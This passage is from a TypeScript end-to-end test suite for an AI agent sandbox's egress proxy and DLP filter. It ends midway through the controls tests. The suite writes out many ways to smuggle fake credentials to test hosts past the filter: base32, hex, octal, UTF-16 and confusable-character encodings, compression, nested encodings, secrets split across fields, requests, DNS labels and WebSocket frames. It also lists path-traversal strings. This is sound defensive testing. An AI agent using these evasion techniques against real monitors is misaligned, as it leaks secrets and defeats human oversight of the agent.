/**
 * The exfiltration suite: the egress and DLP hardening proved from inside a
 * real agent box run by a real controller. Two local origins stand behind the
 * Bottle's routes (plain HTTP, and HTTPS with a CA of its own passed with
 * `--upstream-ca`); both log every byte they receive. The agent (curl, and
 * node for WebSocket) tries one case per DLP class, over plain HTTP and over
 * intercepted HTTPS where the class applies; each is refused with the
 * `bottle-egress:` marker (403 body, X-Bottle-Egress-Rule on a CONNECT, or a
 * WebSocket close reason) and never reaches an origin. Controls of the same
 * shapes without a secret must reach the origin, so the suite cannot pass by
 * refusing everything. Origins that echo the request show the agent only
 * its placeholder, never the token the proxy injected.
 *
 * The proxy remembers recent values per base domain (secrets split across
 * requests), and a refused request's values are remembered too, so pieces of
 * one case would be joined to the next case's values (and refuse it for the
 * wrong reason). Before each case the batch sends one request with more
 * fresh values than the `any` channel keeps, and before a DNS case as many
 * fresh subdomains: no case sees another's pieces. Every case also has a
 * unique marker in its path (or WebSocket URL), so "the origin never saw
 * it" is a plain search of everything the origins logged.
 *
 * Secrets are fake, built at test time; they reach the box only inside files
 * written through exec's stdin (curl -K configs, request bodies, JSON for the
 * WebSocket client), never on a command line, and every text an assertion
 * prints is scrubbed of them first.
 */
import { Buffer } from 'node:buffer'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import Dockerode from 'dockerode'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DockerDriver } from '../../controller/runtime/docker/docker-driver.js'
import { encodeBase32 } from '../../sidecars/dlp/base32.js'
import { REDACTED_MARKER } from '../../sidecars/egress/answer-redactor.js'
import { WINDOW_LIMITS } from '../../sidecars/egress/fragment-window.js'
import {
  addQuietRequest,
  addRequest,
  batchScript,
  BOX_DIR,
  headerOf,
  newBatch,
  parseBatchOutput,
  parseWsOutcome,
  refusalOf,
  WS_CLIENT_SCRIPT,
  wsSessionFile,
  type BoxRequest,
  type BoxResponse,
  type CurlBatch,
  type WsEvent,
  type WsOutcome,
  type WsSession,
} from '../helpers/agent-box-requests.js'
import { ControllerProcess, isReady, removeInstance, sleep, uniqueInstance } from '../helpers/controller-process.js'
import { BASE32_AWS, FakeRandom, githubStyleToken } from '../helpers/fake-credentials.js'
import { startLoggingOrigin, type LoggingOrigin } from '../helpers/logging-origin.js'
import { TempFolder } from '../helpers/temp-folder.js'

const docker = new Dockerode()
const instance = uniqueInstance('exf')
const AGENT = 'agent1'
const driver = new DockerDriver({ instance, logger: pino({ level: 'silent' }) })

// ---------------------------------------------------------------------------
// Fake secrets, built at test time.
const rng = new FakeRandom(20261207)
/** The route's real credential: injected by the proxy, never held by the agent, a known secret of the Bottle. */
const ROUTE_TOKEN = `rtok-${rng.string('abcdefghijklmnopqrstuvwxyz0123456789', 40)}`
/** Every fake credential the agent tries to send out; none may ever reach an origin. */
const FAKES: string[] = []
const gh = (): string => {
  const value = githubStyleToken(rng, 'ghp_')
  FAKES.push(value)
  return value
}
const aws = (): string => {
  const value = `AKIA${rng.string(BASE32_AWS, 16)}`
  FAKES.push(value)
  return value
}
/** `value` with `gap` inserted at each offset. */
const spaced = (value: string, at: readonly number[], gap: string): string =>
  [0, ...at].map((from, i) => value.slice(from, at[i] ?? value.length)).join(gap)
const gitlab = (): string => {
  const value = `glpat-${rng.string('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 20)}`
  FAKES.push(value, value.replaceAll('-', '\u2013'))
  return value
}
/** A Stripe-style key whose first letter after the prefix is `o`, and its spelling with `ø` there. */
const stripeWithStroke = (): string => {
  const value = `sk_live_o${rng.string('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 23)}`
  const stroked = value.replace('_o', '_\u00f8')
  FAKES.push(value, stroked)
  return stroked
}
const randomBytes = (n: number): Buffer => Buffer.from(Array.from({ length: n }, () => Math.floor(rng.next() * 256)))

/** A secret in the spellings an echo or a leak could carry it: as is, either case, percent-encoded, base64 at each byte alignment. */
function spellings(secret: string): string[] {
  const b64At = (lead: string) => Buffer.from(`${lead}${secret}`).toString('base64').slice(lead ? 4 : 0, -4)
  return [secret, secret.toLowerCase(), secret.toUpperCase(), encodeURIComponent(secret), b64At(''), b64At('x'), b64At('xy'), b64At('me:')]
}

/** Text safe to print: every secret value, in every spelling, replaced. */
function scrub(text: string): string {
  let out = text
  for (const secret of [ROUTE_TOKEN, ...FAKES]) for (const form of spellings(secret)) out = out.split(form).join('<secret>')
  return out
}

// ---------------------------------------------------------------------------
// Shapes.
type Leg = 'plain' | 'tls'
const LEGS: readonly Leg[] = ['plain', 'tls']
/** The agent's side: plain HTTP to the proxy (absolute form), or a CONNECT tunnel the proxy intercepts. */
const SCHEME: Record<Leg, 'http' | 'https'> = { plain: 'http', tls: 'https' }
/** The route each leg uses: a plain route to the HTTP origin, and the auth route to the HTTPS origin. */
const BASE: Record<Leg, string> = { plain: 'http://plain.test.internal', tls: 'https://api.test.internal' }

const pieces = (value: string, n: number): string[] => {
  const size = Math.ceil(value.length / n)
  return Array.from({ length: n }, (_, i) => value.slice(i * size, (i + 1) * size))
}
const b64 = (data: string | Buffer): string => Buffer.from(data).toString('base64')
const hex = (data: string | Buffer): string => Buffer.from(data).toString('hex')
const wrap = (text: string, column: number): string => (text.match(new RegExp(`.{1,${column}}`, 'g')) ?? []).join('\r\n')
const hexColons = (text: string): string => [...Buffer.from(text)].map((b) => b.toString(16).padStart(2, '0')).join(':')
const utf16le = (text: string): Buffer => Buffer.from(text, 'utf16le')
const compress = (tool: 'xz' | 'zstd', data: string): Buffer => execFileSync(tool, ['-c', '-q'], { input: Buffer.from(data) })

function multipart(boundary: string, parts: { headers: string[]; body: Buffer | string }[]): Buffer {
  const chunks: Buffer[] = []
  for (const part of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\n${part.headers.map((h) => `${h}\r\n`).join('')}\r\n`), Buffer.from(part.body), Buffer.from('\r\n'))
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`))
  return Buffer.concat(chunks)
}
const BOUNDARY = 'e2eBoundary7MA4YWxkTrZu0gW'

type Where = 'request' | 'connect'
interface HttpCase {
  id: string
  request: BoxRequest
  /**
   * Absent: a control, which must reach the origin with a 2xx. `reason`, when
   * given, must match the refusal body: it names where the secret was found
   * (the proxy's location vocabulary), so the case proves its own class
   * caught it, not some other check.
   */
  refused?: { rule: string; where?: Where; reason?: RegExp }
}

/** Cases whose requests run back to back (splits across requests); the rest run one per group. */
type Group = HttpCase[]

// ---------------------------------------------------------------------------
// Controls: the same shapes as the refusals, without a secret.
const controls: HttpCase[] = LEGS.flatMap((leg): HttpCase[] => {
  const base = BASE[leg]
  const scheme = SCHEME[leg]
  const id = (name: string) => `ctl-${name}-${leg}`
  return [
    { id: id('json'), request: { url: `${base}/c/${id('json')}`, method: 'POST', headers: ['Content-Type: application/json'], body: Buffer.from(JSON.stringify({ name: 'widget', count: 3, tags: ['blue', 'round'], note: 'nothing secret in here' })) } },
    {
      id: id('multipart-base64'),
      request: {
        url: `${base}/c/${id('multipart-base64')}`,
        method: 'POST',
        headers: [`Content-Type: multipart/form-data; boundary=${BOUNDARY}`],
        body: multipart(BOUNDARY, [
          { headers: ['Content-Disposition: form-data; name="title"'], body: 'holiday photo' },
          { headers: ['Content-Disposition: form-data; name="file"; filename="photo.bin"', 'Content-Type: application/octet-stream', 'Content-Transfer-Encoding: base64'], body: wrap(b64(randomBytes(3000)), 76) },
        ]),
      },
    },
    { id: id('signed-url'), request: { url: `${base}/c/${id('signed-url')}?X-Expires=1767225600&X-Key-Id=uploads&X-Signature=${rng.string('0123456789abcdef', 64)}` } },
    { id: id('gzip-body'), request: { url: `${base}/c/${id('gzip-body')}`, method: 'POST', headers: ['Content-Type: application/json', 'Content-Encoding: gzip'], body: gzipSync(Buffer.from(JSON.stringify({ text: 'the quick brown fox jumps over the lazy dog' }))) } },
    { id: id('repos-prefix'), request: { url: `${scheme}://repos.test.internal/repos/me/project/${id('repos-prefix')}` } },
    { id: id('subdomain'), request: { url: `${scheme}://assets.files.test.internal/c/${id('subdomain')}` } },
    // Prose about token prefixes, which the search over closed gaps must not glue into a token.
    {
      id: id('prefix-prose'),
      request: {
        url: `${base}/c/${id('prefix-prose')}`,
        method: 'POST',
        headers: ['Content-Type: text/plain'],
        body: Buffer.from('GitHub tokens start with ghp_ and hold 36 more characters; AWS key ids start with AKIA and hold 16.\nStripe keys start with sk_live_ followed by letters and digits.\n'),
      },
    },
  ]
})

// ---------------------------------------------------------------------------
// Path canonicalization, on the route with `paths: ["/repos/me/"]`.
const PATH_TRICKS: { name: string; path: string; rule: string }[] = [
  { name: 'encoded-slash', path: '/repos/me/..%2Fadmin', rule: 'path-not-canonical' },
  { name: 'encoded-dots', path: '/repos/me/%2e%2e/admin', rule: 'path-not-canonical' },
  { name: 'encoded-backslash', path: '/repos/me/..%5Cadmin', rule: 'path-not-canonical' },
  { name: 'double-encoded-slash', path: '/repos/me/..%252Fadmin', rule: 'path-not-canonical' },
  { name: 'semicolon-parameter', path: '/repos/me/..;/admin', rule: 'path-not-canonical' },
  { name: 'dot-segment', path: '/repos/me/../admin', rule: 'path-not-canonical' },
  // Dot segments that resolve inside the prefix: no way out, but not canonical either. README "Paths": a
  // path with %2E or a dot segment is refused (path-not-canonical), never rewritten for the origin.
  { name: 'inner-encoded-dots', path: '/repos/me/sub/%2e%2e/project', rule: 'path-not-canonical' },
  { name: 'inner-dot-segment', path: '/repos/me/sub/../project', rule: 'path-not-canonical' },
  { name: 'outside-prefix', path: '/repos/other', rule: 'path-not-allowed' },
  { name: 'prefix-not-a-segment', path: '/repos/meow', rule: 'path-not-allowed' },
]
const pathCases: HttpCase[] = LEGS.flatMap((leg) =>
  PATH_TRICKS.map(({ name, path, rule }): HttpCase => {
    const id = `path-${name}-${leg}`
    return { id, request: { url: `${SCHEME[leg]}://repos.test.internal${path}/${id}` }, refused: { rule } }
  }),
)

// ---------------------------------------------------------------------------
// Encodings.
const encodingCases: HttpCase[] = LEGS.flatMap((leg): HttpCase[] => {
  const base = BASE[leg]
  const id = (name: string) => `enc-${name}-${leg}`
  const url = (name: string) => `${base}/c/${id(name)}`
  const post = (name: string, contentType: string | undefined, body: Buffer, reason?: RegExp, extra: string[] = []): HttpCase => ({
    id: id(name),
    request: { url: url(name), method: 'POST', headers: [contentType === undefined ? 'Content-Type:' : `Content-Type: ${contentType}`, ...extra], body },
    refused: { rule: 'dlp', ...(reason ? { reason } : {}) },
  })
  const notes = (secret: string) => `release notes for the spring build\nall tests green on every platform we ship\ndeploy credential: ${secret}\nplease rotate after the demo\n`
  let nested = `x ${gh()}`
  for (const layer of [b64, hex, b64, hex, b64]) nested = layer(nested)
  return [
    { id: id('base32-query'), request: { url: `${url('base32-query')}?ref=${encodeBase32(Buffer.from(gh())).replace(/=+$/, '')}` }, refused: { rule: 'dlp', reason: /url\.query.*\(base32\)/ } },
    post(
      'mime-base64',
      `multipart/form-data; boundary=${BOUNDARY}`,
      multipart(BOUNDARY, [{ headers: ['Content-Disposition: form-data; name="file"; filename="notes.txt"', 'Content-Type: text/plain', 'Content-Transfer-Encoding: base64'], body: wrap(b64(notes(gh())), 76) }]),
      /body\.multipart/,
    ),
    { id: id('hex-colons-header'), request: { url: url('hex-colons-header'), headers: [`X-Trace-Bytes: ${hexColons(gh())}`] }, refused: { rule: 'dlp', reason: /header:x-trace-bytes \(hex\)/ } },
    post('utf16le-declared-utf8', 'text/plain; charset=utf-8', utf16le(`note: ${gh()}`), /rule github-pat in body/),
    // En dashes where the format has hyphens: a reader puts them back.
    post('letter-with-stroke', 'text/plain; charset=utf-8', Buffer.from(`the billing job charges with ${stripeWithStroke()} from now on\n`), /rule stripe-secret-key in body\.text \(confusable\)/),
    post('dashes-for-hyphens', 'text/plain; charset=utf-8', Buffer.from(`the mirror job pushes with ${gitlab().replaceAll('-', '\u2013')} from now on\n`), /rule gitlab-pat in body\.text \(confusable\)/),
    post('utf16le-undeclared', undefined, utf16le(`note: ${aws()}`), /rule aws-access-key-id in body/),
    // A serialized buffer: the bytes as decimal numbers in a JSON array, outside any string.
    post('serialized-buffer', 'application/json', Buffer.from(JSON.stringify({ kind: 'upload', payload: Buffer.from(`note: ${gh()}`) })), /rule github-pat in body\.json.*\(decimal\)/),
    post('octal-escapes', 'text/plain', Buffer.from(`printf '${[...Buffer.from(gh())].map((b) => `\\${b.toString(8).padStart(3, '0')}`).join('')}'\n`), /rule github-pat in body\.text \(escaped\)/),
    // A token broken up by blanks: a space inside it, or wrapped onto indented lines.
    post('blank-inside-token', 'text/plain', Buffer.from(`the deploy key is ${spaced(gh(), [15], ' ')} for now\n`), /rule github-pat in body\.text \(gaps-closed\)/),
    post('wrapped-token', 'application/json', Buffer.from(JSON.stringify({ messages: [{ role: 'user', content: `aws_access_key_id =\n    ${spaced(aws(), [10], '\n    ')}\n` }] })), /rule aws-access-key-id in body\.json.*\(gaps-closed\)/),
    post('gzip-without-coding', 'application/octet-stream', gzipSync(Buffer.from(JSON.stringify({ note: aws() }))), /in body.* \(gzip\)/),
    post('gzip-base64-in-json', 'application/json', Buffer.from(JSON.stringify({ blob: b64(gzipSync(Buffer.from(JSON.stringify({ note: gh() })))) })), /body\.json.*\(base64\+gzip\)/),
    post('content-encoding-gzip', 'application/json', gzipSync(Buffer.from(JSON.stringify({ note: gh() }))), /rule github-pat in body\.json/, ['Content-Encoding: gzip']),
    post('xz-body', 'application/octet-stream', compress('xz', JSON.stringify({ note: gh() })), /unreadable-encoding.*\(xz\)/),
    post('zstd-body', 'application/octet-stream', compress('zstd', JSON.stringify({ note: gh() })), /unreadable-encoding.*\(zstd\)/),
    post('five-layers', 'application/json', Buffer.from(JSON.stringify({ data: nested })), /scan-limit-exceeded/),
  ]
})

// ---------------------------------------------------------------------------
// Splits within one request.
const splitCases: HttpCase[] = LEGS.flatMap((leg): HttpCase[] => {
  const base = BASE[leg]
  const scheme = SCHEME[leg]
  const id = (name: string) => `split-${name}-${leg}`
  const url = (name: string) => `${base}/c/${id(name)}`
  const [q1, q2, q3] = pieces(gh(), 3) as [string, string, string]
  const [h1, h2, h3] = pieces(ROUTE_TOKEN, 3) as [string, string, string]
  const [n1, n2] = pieces(gh(), 2) as [string, string]
  const [s1, s2, s3] = pieces(aws(), 3) as [string, string, string]
  const [j1, j2, j3] = pieces(ROUTE_TOKEN, 3) as [string, string, string]
  const [f1, f2, f3] = pieces(gh(), 3) as [string, string, string]
  const [m1, m2, m3] = pieces(aws(), 3) as [string, string, string]
  const [l1, l2] = pieces(gh(), 2) as [string, string]
  const dns = aws().toLowerCase()
  const labels = [dns.slice(0, 8), dns.slice(8, 16), dns.slice(16)]
  return [
    { id: id('query'), request: { url: `${url('query')}?s1=${q1}&s2=${q2}&s3=${q3}` }, refused: { rule: 'dlp', reason: /url\.query\(joined\)/ } },
    { id: id('header-values'), request: { url: url('header-values'), headers: [`X-Part-One: ${h1}`, `X-Part-Two: ${h2}`, `X-Part-Three: ${h3}`] }, refused: { rule: 'dlp', reason: /known-secret in header\(joined\)/ } },
    { id: id('header-name-value'), request: { url: url('header-name-value'), headers: [`X-${n1}: ${n2}`] }, refused: { rule: 'dlp', reason: /header\(joined\)/ } },
    { id: id('path-segments'), request: { url: `${url('path-segments')}/${s1}/${s2}/${s3}` }, refused: { rule: 'dlp', reason: /url\.path\(joined\)/ } },
    { id: id('json-array'), request: { url: url('json-array'), method: 'POST', headers: ['Content-Type: application/json'], body: Buffer.from(JSON.stringify({ chunks: [j1, j2, j3], n: 3 })) }, refused: { rule: 'dlp', reason: /known-secret in body\.json\(joined\)/ } },
    {
      id: id('json-lines'),
      request: { url: url('json-lines'), method: 'POST', headers: ['Content-Type: application/x-ndjson'], body: Buffer.from(`${JSON.stringify({ seq: 1, text: l1 })}\n${JSON.stringify({ seq: 2, text: l2 })}\n`) },
      refused: { rule: 'dlp', reason: /github-pat in body\.jsonl\(joined\)/ },
    },
    { id: id('form-fields'), request: { url: url('form-fields'), method: 'POST', headers: ['Content-Type: application/x-www-form-urlencoded'], body: Buffer.from(`a=${f1}&b=${f2}&c=${f3}`) }, refused: { rule: 'dlp', reason: /body\.form\(joined\)/ } },
    {
      id: id('multipart-parts'),
      request: {
        url: url('multipart-parts'),
        method: 'POST',
        headers: [`Content-Type: multipart/form-data; boundary=${BOUNDARY}`],
        body: multipart(
          BOUNDARY,
          [m1, m2, m3].map((p, i) => ({ headers: [`Content-Disposition: form-data; name="part${i}"`], body: p })),
        ),
      },
      refused: { rule: 'dlp', reason: /body\.multipart\(joined\)/ },
    },
    // DNS labels of a wildcard host: refused at the CONNECT for https, at the request for http.
    { id: id('dns-labels'), request: { url: `${scheme}://${labels.join('.')}.files.test.internal/c/${id('dns-labels')}` }, refused: leg === 'tls' ? { rule: 'dlp', where: 'connect' } : { rule: 'dlp', reason: /in host/ } },
  ]
})

// ---------------------------------------------------------------------------
// Splits across requests: the first pieces pass, the request that completes the secret is refused.
const acrossGroups: { name: string; dns: boolean; group: Group; secret: string }[] = LEGS.flatMap((leg) => {
  const query = gh()
  const subdomain = aws()
  const q = pieces(query, 3)
  const d = pieces(subdomain.toLowerCase(), 3)
  const step = (name: string, i: number) => `across-${name}-${leg}-s${i + 1}`
  return [
    {
      name: `the same query parameter over 3 requests (${leg})`,
      dns: false,
      secret: query,
      group: q.map((p, i): HttpCase => ({ id: step('query', i), request: { url: `${BASE[leg]}/c/${step('query', i)}?part-${leg}=${p}` }, ...(i === 2 ? { refused: { rule: 'dlp', reason: new RegExp(`recent-requests:query:part-${leg}`) } } : {}) })),
    },
    {
      name: `one subdomain label per request (${leg === 'tls' ? 'CONNECT' : 'http'})`,
      dns: true,
      secret: subdomain,
      group: d.map((p, i): HttpCase => ({
        id: step('dns', i),
        request: { url: `${SCHEME[leg]}://${p}.files.test.internal/c/${step('dns', i)}` },
        ...(i === 2 ? { refused: leg === 'tls' ? { rule: 'dlp', where: 'connect' as const } : { rule: 'dlp', reason: /recent-requests:subdomain/ } } : {}),
      })),
    },
  ]
})

// ---------------------------------------------------------------------------
// WebSocket.
interface WsCase {
  id: string
  session: WsSession
  /** Messages the origin must have received on this connection, in order. */
  delivered: Buffer[]
  /** Absent: every step gets a reply and the connection closes normally. */
  refusedAtStep?: number
  /** What the close reason must name (the proxy's location vocabulary). */
  reason?: RegExp
}
const WS_BASE: Record<Leg, string> = { plain: 'ws://plain.test.internal', tls: 'wss://api.test.internal' }
const wsCases: WsCase[] = LEGS.flatMap((leg): WsCase[] => {
  const id = (name: string) => `ws-${name}-${leg}`
  const url = (name: string) => `${WS_BASE[leg]}/ws/${id(name)}`
  const text = (payload: string | Buffer, fin = true) => ({ opcode: 0x1, fin, payload: Buffer.from(payload) })
  const clean = [Buffer.from(JSON.stringify({ type: 'hello', case: id('clean') })), Buffer.from(JSON.stringify({ type: 'delta', text: 'a clean message that passes' }))]
  const fragmented = Buffer.from(JSON.stringify({ case: id('fragments'), note: gh() }))
  // Cut inside the token, twice: no frame holds more than a third of it.
  const at = fragmented.indexOf('ghp_')
  const thirds = [fragmented.subarray(0, at + 14), fragmented.subarray(at + 14, at + 28), fragmented.subarray(at + 28)]
  const split = gh()
  const halves = [Buffer.from(split.slice(0, 20)), Buffer.from(split.slice(20))]
  return [
    { id: id('clean'), session: { url: url('clean'), steps: clean.map((m) => ({ frames: [text(m)] })) }, delivered: clean },
    {
      id: id('fragments'),
      session: { url: url('fragments'), steps: [{ frames: [text(thirds[0]!, false), { opcode: 0x0, fin: false, payload: thirds[1]! }, { opcode: 0x0, fin: true, payload: thirds[2]! }] }] },
      delivered: [],
      refusedAtStep: 0,
      // The message was read whole (as JSON): the token spans all three frames.
      reason: /in body\.json:\$\.note/,
    },
    { id: id('two-messages'), session: { url: url('two-messages'), steps: halves.map((h) => ({ frames: [text(h)] })) }, delivered: [halves[0]!], refusedAtStep: 1, reason: /websocket\(joined\)/ },
    {
      id: id('gzip-binary'),
      session: { url: url('gzip-binary'), steps: [{ frames: [{ opcode: 0x2, payload: gzipSync(Buffer.from(JSON.stringify({ key: aws() }))) }] }] },
      delivered: [],
      refusedAtStep: 0,
      reason: /\(gzip\)/,
    },
  ]
})

// ---------------------------------------------------------------------------
// Reflection: origins echoing the request on the auth route.
const reflectionCases: HttpCase[] = LEGS.flatMap((leg): HttpCase[] =>
  ['plain', 'chunked', 'gzip'].map((kind): HttpCase => {
    const id = `echo-${kind}-${leg}`
    return {
      id,
      request: {
        url: `${SCHEME[leg]}://api.test.internal/echo/${kind}/${id}`,
        method: 'POST',
        headers: ['Content-Type: application/json', 'Accept-Encoding: gzip'],
        body: Buffer.from(JSON.stringify({ hello: 'reflection', case: id })),
      },
    }
  }),
)
const wsEchoCases: { id: string; session: WsSession }[] = LEGS.map((leg) => {
  const id = `ws-echo-${leg}`
  return { id, session: { url: `${leg === 'tls' ? 'wss' : 'ws'}://api.test.internal/ws-echo/${id}`, steps: [{ frames: [{ opcode: 0x1, payload: Buffer.from(`hello from ${id}`) }] }] } }
})

// Every marker is unique and none contains another, so "the origin never saw it" means what it says.
const ALL_IDS = [
  ...controls,
  ...pathCases,
  ...encodingCases,
  ...splitCases,
  ...acrossGroups.flatMap((g) => g.group),
  ...reflectionCases,
].map((c) => c.id).concat(wsCases.map((c) => c.id), wsEchoCases.map((c) => c.id))

// ---------------------------------------------------------------------------

describe('exfiltration: the egress and DLP hardening, from inside a real agent', () => {
  let specs: TempFolder
  let state: TempFolder
  let work: string
  let controller: ControllerProcess
  let plainOrigin: LoggingOrigin
  let tlsOrigin: LoggingOrigin
  let flushes = 0
  const outcomes: string[] = []

  async function box(script: string): Promise<{ exitCode: number; stdout: string; stderr: string }> {
    return driver.exec(AGENT, 'agent', ['sh', '-s'], { user: 'agent', workdir: '/home/agent', env: { HOME: '/home/agent' }, stdin: script })
  }

  /**
   * Fresh values in every window channel a case could touch (see the file
   * comment): one more than a channel keeps in the `any` channel, in one
   * request, and as many fresh subdomains, one request each, for DNS cases.
   */
  function addFlush(batch: CurlBatch, subdomains: boolean): void {
    const n = ++flushes
    const words = ['alpha', 'bravo', 'charlie', 'delta', 'echo', 'foxtrot', 'golf', 'hotel', 'india', 'juliet', 'kilo', 'lima', 'mike', 'november', 'oscar', 'papa', 'quebec']
    const count = WINDOW_LIMITS.values + 1
    if (count > words.length) throw new Error('the windows grew: give the flush more words')
    if (subdomains) for (let i = 1; i <= WINDOW_LIMITS.values; i++) addQuietRequest(batch, `flush-${n}-dns-${i}`, { url: `http://fl${n}x${i}.files.test.internal/flush` })
    addQuietRequest(batch, `flush-${n}`, { url: `http://plain.test.internal/flush/w${n}?${words.slice(0, count).map((w, i) => `f${i}=w${n}-${w}`).join('&')}` })
  }

  /** Runs groups of requests in one exec: a flush before each group, the group's requests back to back. */
  async function runGroups(groups: Group[], options: { subdomains?: boolean } = {}): Promise<Map<string, BoxResponse>> {
    const batch = newBatch()
    for (const group of groups) {
      addFlush(batch, options.subdomains ?? false)
      for (const c of group) addRequest(batch, c.id, c.request)
    }
    const r = await box(batchScript(batch))
    const results = parseBatchOutput(r.stdout)
    if (results.size !== groups.flat().length) throw new Error(`the batch reported ${results.size} of ${groups.flat().length} requests (exit ${r.exitCode}): ${scrub(r.stderr).slice(0, 2000)}`)
    return results
  }

  /** Runs WebSocket sessions in one exec, a flush before each. */
  async function runWs(sessions: { id: string; session: WsSession }[]): Promise<Map<string, WsOutcome>> {
    const batch = newBatch()
    batch.files.set('ws-client.cjs', Buffer.from(WS_CLIENT_SCRIPT))
    for (const { id, session } of sessions) {
      addFlush(batch, false)
      batch.files.set(`${id}.json`, wsSessionFile(session))
      batch.commands.push(`printf '@@ws %s ' ${id}; node ${BOX_DIR}/ws-client.cjs ${BOX_DIR}/${id}.json`)
    }
    const r = await box(batchScript(batch))
    const out = new Map<string, WsOutcome>()
    for (const line of r.stdout.split('\n')) {
      const m = /^@@ws (\S+) (\{.*\})$/.exec(line)
      if (m) out.set(m[1]!, parseWsOutcome(m[2]!))
    }
    if (out.size !== sessions.length) throw new Error(`the WebSocket batch reported ${out.size} of ${sessions.length} sessions: ${scrub(r.stdout + r.stderr).slice(0, 2000)}`)
    return out
  }

  const origins = () => [plainOrigin, tlsOrigin]
  /** Did any origin log anything holding `marker` (request line, headers, body, WebSocket frames)? */
  const originSaw = (marker: string) => origins().some((o) => o.loggedBuffers().some((b) => b.includes(marker)))
  const originRequests = (marker: string) => origins().flatMap((o) => o.requests.filter((r) => r.url.includes(marker)))

  /** What a response amounts to, printable: status, the rule (from the marker header), where the refusal came, and the body's first line. */
  function verdict(c: HttpCase, r: BoxResponse | undefined): { status: number; rule: string; where: Where | ''; body: string } {
    if (!r) return { status: 0, rule: 'no result', where: '', body: '' }
    const refusal = refusalOf(r)
    const tunnel = c.request.url.startsWith('https:')
    const index = refusal ? r.heads.findIndex((h) => headerOf(h, 'x-bottle-egress-rule') !== undefined) : -1
    const where: Where | '' = !refusal ? '' : tunnel && index === 0 ? 'connect' : 'request'
    const last = r.heads[r.heads.length - 1]
    const body = refusal ? refusal.body : (r.body.toString('utf8').split('\n')[0] ?? '')
    const status = refusal ? refusal.status : (last?.status ?? 0)
    return { status, rule: refusal?.rule ?? '', where, body: scrub(body).slice(0, 300) }
  }

  function record(c: HttpCase, r: BoxResponse | undefined): void {
    const v = verdict(c, r)
    // For a case meant to be refused that got through, what the origin received instead.
    const leaked = c.refused ? originRequests(c.id).map((q) => ` origin saw: ${q.method} ${scrub(q.url)}`) : []
    outcomes.push(`${c.id}: ${v.status} ${v.rule || '-'} ${v.where} ${v.body}${r?.curlError ? ` [${scrub(r.curlError)}]` : ''}${leaked.join('')}`)
  }

  /** The assertions for one case: refused with its marker and never seen by an origin, or (a control) delivered with a 2xx. */
  function expectCase(c: HttpCase, r: BoxResponse | undefined): void {
    record(c, r)
    const v = verdict(c, r)
    if (c.refused) {
      const where = c.refused.where ?? 'request'
      // One comparison, so a failure shows at once what the proxy answered and whether the origin got the request.
      expect({ status: v.status, rule: v.rule, where: v.where, originSaw: originSaw(c.id) }).toEqual({ status: 403, rule: c.refused.rule, where, originSaw: false })
      // A refusal inside a tunnel or on plain HTTP has a body naming the rule; curl does not keep a CONNECT answer's body.
      if (where === 'request') expect(v.body).toMatch(new RegExp(`^bottle-egress: ${c.refused.rule}: `))
      if (c.refused.reason) expect(v.body).toMatch(c.refused.reason)
    } else {
      expect(v).toMatchObject({ rule: '', where: '' })
      expect(v.status).toBeGreaterThanOrEqual(200)
      expect(v.status).toBeLessThan(300)
      expect(originRequests(c.id)).toHaveLength(1)
    }
  }

  beforeAll(async () => {
    expect(new Set(ALL_IDS).size).toBe(ALL_IDS.length)
    for (const a of ALL_IDS) for (const b of ALL_IDS) if (a !== b && a.includes(b)) throw new Error(`marker ${b} is inside ${a}`)

    work = mkdtempSync(join(tmpdir(), 'bottle-exfil-'))
    plainOrigin = await startLoggingOrigin({ name: 'plain', scheme: 'http' })
    tlsOrigin = await startLoggingOrigin({ name: 'tls', scheme: 'https', dir: work })
    const host = plainOrigin.host
    specs = await TempFolder.create('bottle-exfil-specs-')
    state = await TempFolder.create('bottle-exfil-state-')
    await specs.write(
      'bottles/exfil.yaml',
      `apiVersion: bottle.dev/v1alpha1
kind: Bottle
metadata: {name: exfil}
spec:
  egress:
    routes:
      - host: plain.test.internal
        upstream: http://${host}:${plainOrigin.port}
      - host: api.test.internal
        upstream: https://${host}:${tlsOrigin.port}
        auth: {scheme: Bearer, tokenRef: {env: E2E_EXFIL_TOKEN}}
      - host: "*.files.test.internal"
        upstream: https://${host}:${tlsOrigin.port}
      - host: repos.test.internal
        paths: ["/repos/me/"]
        upstream: http://${host}:${plainOrigin.port}
    allowPrivate: ["${host}/32"]
    limits: {requestsPerMinute: 6000}
`,
    )
    await specs.write(`agents/${AGENT}.yaml`, `apiVersion: bottle.dev/v1alpha1\nkind: Agent\nmetadata: {name: ${AGENT}}\nspec: {bottle: exfil}\n`)
    controller = new ControllerProcess(specs, state, instance, { E2E_EXFIL_TOKEN: ROUTE_TOKEN }, ['--upstream-ca', tlsOrigin.caFile ?? ''])
    controller.start()
    await controller.waitForStatus(`agents/${AGENT}.yaml`, AGENT, isReady)
    const deadline = Date.now() + 60_000
    while ((await box('test -f /run/bottle-agent-ready && echo ok')).stdout.trim() !== 'ok') {
      if (Date.now() > deadline) throw new Error('the agent box never became ready')
      await sleep(200)
    }
  })

  afterAll(async () => {
    if (outcomes.length > 0) console.info(`exfiltration outcomes:\n${outcomes.join('\n')}`)
    await controller?.stop()
    await plainOrigin?.close()
    await tlsOrigin?.close()
    await removeInstance(docker, instance)
    await specs?.dispose()
    await state?.dispose()
    if (work) rmSync(work, { recursive: true, force: true })
  })

  it('the box: node trusts the Agent CA through NODE_EXTRA_CA_CERTS, and the token is nowhere in it', async () => {
    const r = await box('printf "%s\\n" "$NODE_EXTRA_CA_CERTS"; test -s "$NODE_EXTRA_CA_CERTS" && echo ca-present; env')
    expect(r.stdout.split('\n')[0]).toBe('/usr/local/share/ca-certificates/bottle-agent.crt')
    expect(r.stdout).toContain('ca-present')
    expect(r.stdout.includes(ROUTE_TOKEN)).toBe(false)
  })

  describe('controls: the same shapes without a secret reach the origin', () => {
    let results: Map<string, BoxResponse>
    beforeAll(async () => {
      results = await runGroups(controls.map((c) => [c]))
    })
    it.each(controls)('$id', (c) => expectCase(c, results.get(c.id)))
    it('a plain control reached the plain origin, an https one the TLS origin with the token injected', () => {
      expect(plainOrigin.requests.some((r) => r.url.includes('ctl-json-plain'))).toBe(true)
